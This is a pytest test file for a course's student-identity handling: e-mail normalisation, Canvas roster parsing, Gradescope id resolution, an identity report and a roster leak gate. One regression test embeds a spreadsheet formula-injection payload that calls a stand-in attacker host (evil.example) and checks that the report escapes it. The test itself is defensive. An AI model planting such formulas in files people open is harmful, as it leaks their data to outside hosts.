"""One key per student (issue 33): the id of every platform resolves to it, the roster is
read strictly, and no check says ✓ on numbers that may not be the student's.

course_lib's side (:mod:`course_lib.exercises._identity`): normalisation, the e-mail domain,
the precedence of the ids, the check without an id. The grader's side
(:mod:`instructor.grading.identity`, :mod:`instructor.grading.gradescope_run`): Canvas and plain
rosters, their errors, the unknown id, the identity report, the leak gate.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from course_lib import exercises as X
from course_lib.exercises import _identity as I
from course_lib.exercises import check, parameters, set_student_id, student_id
from course_lib.record import MIME
from instructor.grading.gradescope_run import identity
from instructor.grading.gradescope_run import student_id as folder_of
from instructor.grading.identity import Roster, RosterError, load, read_roster, write_report
from instructor.grading.verify import expected

ROOT = Path(__file__).resolve().parents[1]


KEY = "alice7@example.edu"
VARIED = [ex for ex in X.exercises() if ex.variants is not None]
CANVAS = (
    "Student,ID,SIS User ID,SIS Login ID,Section,ps01 (101)\n"
    "    Points Possible,,,,,14\n"
    '"Seven, Alice",1001,3031042,alice7,C106A,\n'
    '"Nine, Bob",1002,3031043,bob9,C106A,\n'
    '"Student, Test",1003,,,C106A,\n'
)


@pytest.fixture(autouse=True)
def _no_ambient_id(monkeypatch):
    for var in (I.ENV_ID, I.HUB_ID, I.GRADER_ID):
        monkeypatch.delenv(var, raising=False)
    set_student_id(None)
    yield
    set_student_id(None)


@pytest.fixture
def domain(monkeypatch):
    """The course's e-mail domain set to example.edu (course_id.json's email_domain)."""
    monkeypatch.setattr(I, "email_domain", lambda: "example.edu")


def _roster(tmp_path, text, name="roster.csv"):
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


# ------------------------------------------------------------------------------ course_lib


@pytest.mark.parametrize(
    "raw",
    [
        "Alice7@Example.EDU ",
        "  alice7@example.edu",
        "ALICE7@EXAMPLE.EDU",
        "ａｌｉｃｅ7@example.edu",
    ],
)
def test_an_email_in_any_spelling_is_one_key(raw):
    assert I.course_key(raw, domain=None) == KEY
    assert parameters(VARIED[0].name, student=raw) == parameters(VARIED[0].name, student=KEY)


def test_a_bare_login_takes_the_course_domain_and_nothing_else_does():
    assert I.course_key("Alice7", domain="Example.EDU") == KEY
    assert I.course_key("alice7@other.org", domain="example.edu") == "alice7@other.org"
    assert I.course_key("ada lovelace", domain="example.edu") == "ada lovelace"  # not a login
    assert I.course_key("", domain="example.edu") == ""
    assert I.course_key(I.EXAMPLE_ID, domain="example.edu") == I.EXAMPLE_ID
    for bad in ("example", "@example.edu", "exa mple.edu", 7):
        with pytest.raises(ValueError, match="email_domain must be a domain name"):
            I.check_domain(bad)


@pytest.mark.parametrize("raw", ["學生 七", "x" * 1000, "a  b\t", "🙂", "Ｚｏë"])
def test_strange_ids_are_keys_with_valid_numbers(raw):
    set_student_id(raw)
    assert student_id() == (I.normalise_id(raw), "set_student_id")
    for ex in VARIED[:3]:
        assert parameters(ex.name) == parameters(ex.name, student=raw)


def test_one_student_same_numbers_as_hub_user_laptop_gradescope_and_nbgrader(
    monkeypatch, domain, tmp_path
):
    """The same student: hub user "alice7" (with the course's domain), the laptop id typed in
    capitals, Gradescope's e-mail and sid, nbgrader's student id: one key, the same numbers."""
    roster = load([_roster(tmp_path, CANVAS)])
    monkeypatch.setenv(I.HUB_ID, "alice7")
    hub = {ex.name: parameters(ex.name) for ex in VARIED}
    assert student_id() == (KEY, I.HUB_ID)
    set_student_id("Alice7@Example.EDU ")
    laptop = {ex.name: parameters(ex.name) for ex in VARIED}
    gradescope = identity({"users": [{"email": "ALICE7@example.edu", "sid": "3031042"}]}, roster)
    by_sid = identity({"users": [{"sid": "3031042"}]}, roster)
    nbgrader = roster.resolve("alice7")
    assert {gradescope.key, by_sid.key, nbgrader.key} == {KEY}
    assert {gradescope.how, by_sid.how, nbgrader.how} == {"roster"}
    graded = {ex.name: parameters(ex.name, student=gradescope.key) for ex in VARIED}
    assert hub == laptop == graded
    assert any(p != parameters(n, student="") for n, p in hub.items())  # not the example's


def test_grading_kernel_id_wins_over_the_notebooks_set_student_id(monkeypatch):
    monkeypatch.setenv(I.GRADER_ID, "Alice7@Example.edu")
    set_student_id("bob9@example.edu")
    assert student_id() == (KEY, I.GRADER_ID)


def test_no_id_never_says_correct_and_says_how_to_set_it_per_platform():
    """Regression (issue 33): a student without an id saw ✓ on the default numbers and lost
    the points at grading."""
    ex = VARIED[0]
    right = _reference(ex.name, 0)
    result = check(ex.name, right)
    assert not result.ok and result.status == "no id" and "✓" not in str(result)
    for platform in ("laptop, Binder or Colab", "JupyterHub", "Gradescope or nbgrader"):
        assert platform in result.message
    assert 'set_student_id("your e-mail")' in result.message
    set_student_id(I.EXAMPLE_ID)  # the instructor's copies: the example numbers, checked
    assert check(ex.name, right).ok


def test_an_exercise_without_variants_or_variants_off_needs_no_id(monkeypatch):
    plain = next(ex for ex in X.exercises() if ex.variants is None)
    assert check(plain.name, None).status == "no answer"
    monkeypatch.setattr(X, "variants_enabled", lambda: False)
    assert check(VARIED[0].name, _reference(VARIED[0].name, 0)).ok


def test_the_top_cell_lists_every_statement_with_the_students_numbers_once():
    text = X.numbers_text(1)
    assert "No student id is set" in text and "$" not in text  # no numbers before the id
    set_student_id(KEY)
    text = X.numbers_text(1)
    assert text.count(KEY) == 1  # whose numbers: said once
    for ex in X.exercises(1):
        if ex.variants is not None:
            shown, _ = X.variant(ex.name)
            assert shown.statement.strip() in text
    assert X.EXAMPLE_NOTE not in X.show(VARIED[0].name).data  # no repeat under each exercise


def test_show_without_an_id_says_these_are_example_numbers():
    assert X.EXAMPLE_NOTE in X.show(VARIED[0].name).data


def _reference(name, index):
    import numpy as np

    _, M = expected(name, index)
    return np.array(M.tolist(), dtype=float).reshape(X.get(name).answer.shape)


# ------------------------------------------------------------------------------ the roster


def test_a_canvas_export_maps_every_alias_to_the_login_key(tmp_path, domain):
    got = read_roster(_roster(tmp_path, CANVAS))
    for alias in ("1001", "3031042", "alice7", KEY):
        assert got[alias][0] == KEY
    assert got["bob9"][0] == "bob9@example.edu"
    assert "points possible" not in got and "1003" not in got  # Canvas's own rows


def test_a_plain_roster_with_header_unicode_and_capitals(tmp_path):
    path = _roster(tmp_path, "key,alias\nAlice7@Example.EDU,alice7, 3031042\nZoë@X.org,zoë\n")
    roster = load([path])
    assert roster.resolve("ALICE7").key == KEY and roster.resolve("Zoë").key == "zoë@x.org"
    assert len(roster) == 2


def test_an_id_the_roster_does_not_know_is_graded_as_given_with_a_note(tmp_path):
    roster = load([_roster(tmp_path, "alice7@example.edu,alice7\n")])
    got = roster.resolve(" Zed@Example.edu")
    assert (got.key, got.how) == ("zed@example.edu", "not in the roster")
    assert "not in the course's roster" in got.note and "zed@example.edu" in got.note
    assert Roster().resolve("Zed").note == ""  # no roster: nothing to say


@pytest.mark.parametrize(
    "text, line, what",
    [
        ("a@x.edu,alice\nb@x.edu,alice\n", 2, "the alias 'alice' is also on line 1"),
        ("a@x.edu,alice\n\nb@x.edu,bob\n", 2, "an empty row"),
        ("a@x.edu,alice\n,,\n", 2, "an empty row"),
        ("a@x.edu,alice\n,bob\n", 2, "no key"),
        ("a@x.edu,alice\nalice,b@x.edu\n", 2, "the alias"),
    ],
)
def test_a_roster_that_cannot_be_trusted_names_the_line(tmp_path, text, line, what):
    with pytest.raises(RosterError, match=rf"line {line}: {what}"):
        load([_roster(tmp_path, text)])


def test_a_canvas_row_without_a_login_and_a_file_that_is_not_a_roster(tmp_path):
    text = CANVAS + '"Doe, Jane",1004,3031044,,C106A,\n'
    with pytest.raises(RosterError, match=r"line 6: no key for 'Doe, Jane'"):
        load([_roster(tmp_path, text)])
    with pytest.raises(RosterError, match="the file is empty"):
        load([_roster(tmp_path, "")])
    (tmp_path / "bin.csv").write_bytes(b"\xff\xfe\x00")
    with pytest.raises(RosterError, match="not UTF-8"):
        load([tmp_path / "bin.csv"])
    a = _roster(tmp_path, "a@x.edu,alice\n", "a.csv")
    b = _roster(tmp_path, "b@x.edu,alice\n", "b.csv")
    with pytest.raises(RosterError, match="also in"):
        load([a, b])


def test_gradescope_folder_and_key(tmp_path):
    roster = load([_roster(tmp_path, "alice7@example.edu,3031042\n")])
    meta = {"users": [{"email": "Alice.Other@Gmail.com", "sid": "3031042", "id": 5}]}
    assert identity(meta, roster).key == KEY  # the sid is the alias the roster knows
    unknown = identity({"users": [{"email": "Zed@X.edu", "sid": "9"}]}, roster)
    assert (unknown.key, unknown.how) == ("zed@x.edu", "not in the roster")
    assert identity({}, Roster()).key == "unknown-student"
    one, two = (folder_of({"users": [{"email": e}]}) for e in ("學生@x.edu", "学生@x.edu"))
    assert one.startswith("@x.edu-") and two.startswith("@x.edu-") and one != two


def test_the_identity_report_keeps_one_row_per_student_and_set(tmp_path):
    path = tmp_path / "identity-report.csv"
    row = {"assignment": "ps01", "student": "bob9", "graded_as": "bob9@x.edu", "lost": "a b"}
    write_report(path, "ps01", "bob9", row)
    write_report(path, "ps01", "bob9", {**row, "lost": "a"})
    write_report(path, "ps02", "bob9", {"graded_as": "bob9@x.edu"})
    text = path.read_text()
    assert text.count("ps01,bob9") == 1 and ",a\n" in text and "ps02,bob9" in text
    write_report(path, "ps01", "bob9", None)  # graded again, nothing to say: off the list
    assert "ps01" not in path.read_text()


def test_the_leak_gate_refuses_a_roster_for_students_and_lets_the_gradescope_zip_hold_it(tmp_path):
    from instructor.grading import gradescope
    from instructor.release import leak_gate

    report = leak_gate.Report()
    leak_gate.scan_data(
        "student/problem_sets/class.csv", CANVAS.encode(), leak_gate.Needles(), report
    )
    leak_gate.scan_data("student/roster.csv", b"a,b\n", leak_gate.Needles(), report)
    assert len(report.hits) == 2 and all("class roster" in h for h in report.hits)
    files = gradescope.members("ps01", roster=_roster(tmp_path, CANVAS))
    assert gradescope.leak_check(files) == [] and files["roster.csv"] == CANVAS.encode()
    assert not any("roster" in name for name in gradescope.members("ps01"))


def test_without_a_roster_the_laptop_email_and_gradescopes_email_are_one_key():
    meta = {"users": [{"email": " ALICE7@example.edu", "sid": "3031042", "id": 9}]}
    got = identity(meta, Roster())
    assert (got.key, got.how, got.note) == (KEY, "no roster", "")
    set_student_id("Alice7@Example.EDU")
    assert student_id()[0] == got.key


def test_a_roster_that_cannot_be_trusted_grades_nothing(tmp_path):
    """make course refuses to copy it; autograde's exporter (made before any submission is
    read) refuses the run; make gradescope refuses to build the zip. The line is named."""
    from nbgrader.converters.base import NbGraderException
    from traitlets.config import Config

    from instructor.grading import gradescope
    from instructor.grading.course import write_course
    from instructor.grading.preprocessor import ConfinedExporter

    bad = _roster(tmp_path, "a@x.edu,alice\nb@x.edu,alice\n")
    with pytest.raises(RosterError, match="line 2"):
        write_course(tmp_path / "course", roster=bad)
    config = Config()
    config.CourseIdentity.rosters = [str(bad)]
    with pytest.raises(NbGraderException, match="line 2: the alias 'alice'.*nothing was graded"):
        ConfinedExporter(config=config)
    with pytest.raises(RosterError, match="line 2"):
        gradescope.members("ps01", roster=bad)


def test_the_canvas_report_lists_the_students_whose_id_needs_a_look():
    from instructor.grading.canvas import IDENTITY, Export

    row = {"assignment": "ps01", "student": "bob9", "graded_as": "bob9@x.edu", "how": "roster"}
    out = Export([*IDENTITY, "ps01"], [["Points Possible"]])
    out.identity = [{**row, "other_numbers": "a b", "lost": "b"}]
    (line,) = [x for x in out.report() if x.startswith("check the id")]
    assert "bob9 on ps01 was graded on the numbers of bob9@x.edu" in line
    assert "showed others in a b" in line and "points lost there: b (regrade?)" in line


def test_regression_shown_numbers_reads_malformed_cells_without_failing():
    """ShownNumbers runs before GuardCells repairs a submission: null grading metadata made
    nbgrader drop the student (test_grading_nbgrader's malformed-metadata submission)."""
    import nbformat

    from instructor.grading.id_preprocessors import SHOWN, ShownNumbers

    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("x") for _ in range(4)])
    cells = nb.cells
    cells[0].metadata["nbgrader"] = None
    cells[1].metadata["nbgrader"] = {"grade_id": "a-check", "grade": True}
    cells[1].outputs = [{"output_type": "display_data", "data": "not a dict"}, 7]
    cells[2].metadata["nbgrader"] = {"grade_id": "b-check", "grade": True}
    record = {"variant": 3, "student": "bob9" * 100}
    cells[2].outputs = [nbformat.v4.new_output("display_data", data={MIME: record})]
    cells[3].metadata["nbgrader"] = {"grade_id": 12}
    nb.metadata[SHOWN] = {"b": {"variant": 0}, "forged": 1}
    nb, _ = ShownNumbers().preprocess(nb, {})
    assert nb.metadata[SHOWN] == {"b": {"variant": 3, "student": ("bob9" * 100)[:200]}}


def test_regression_a_formula_in_a_record_never_reaches_the_identity_report(tmp_path):
    """Red team: shown_as comes from the student's own record; "=HYPERLINK(...)" was written
    as it was into identity-report.csv, which the instructor opens in a spreadsheet."""
    import csv

    path = tmp_path / "identity-report.csv"
    evil = '=HYPERLINK("https://evil.example/?"&A1,"regrade me")'
    row = {"graded_as": "bob@x.edu", "how": "no roster", "shown_as": evil, "lost": "-1+1"}
    write_report(path, "ps01", "@bob", row)
    write_report(path, "ps01", "@bob", {**row, "other_numbers": "+cmd"})  # replaces the row
    with open(path, newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == 1
    for value in rows[0].values():
        assert not value.startswith(("=", "+", "-", "@")), rows[0]
    assert rows[0]["shown_as"] == "'" + evil and rows[0]["student"] == "'@bob"


def test_a_student_found_by_sid_when_the_email_is_unknown_is_told_so_regression_silent_sid(
    tmp_path,
):
    """Gradescope's e-mail not in the roster, its sid in it: graded as the roster's student of
    that sid (as before), and now the feedback says so instead of nothing."""
    roster = load([_roster(tmp_path, "alice7@example.edu,3031042\n")])
    meta = {"users": [{"email": "Alice.Other@Gmail.com", "sid": "3031042", "id": 5}]}
    who = identity(meta, roster)
    assert (who.key, who.how, who.given) == (KEY, "roster", "alice.other@gmail.com")
    assert "'alice.other@gmail.com' is not in the course's roster" in who.note
    assert "the roster's student of the sid 3031042" in who.note and KEY in who.note
    known = identity({"users": [{"email": "ALICE7@example.edu", "sid": "3031042"}]}, roster)
    assert known.key == KEY and known.note == ""  # found by its e-mail: nothing to say
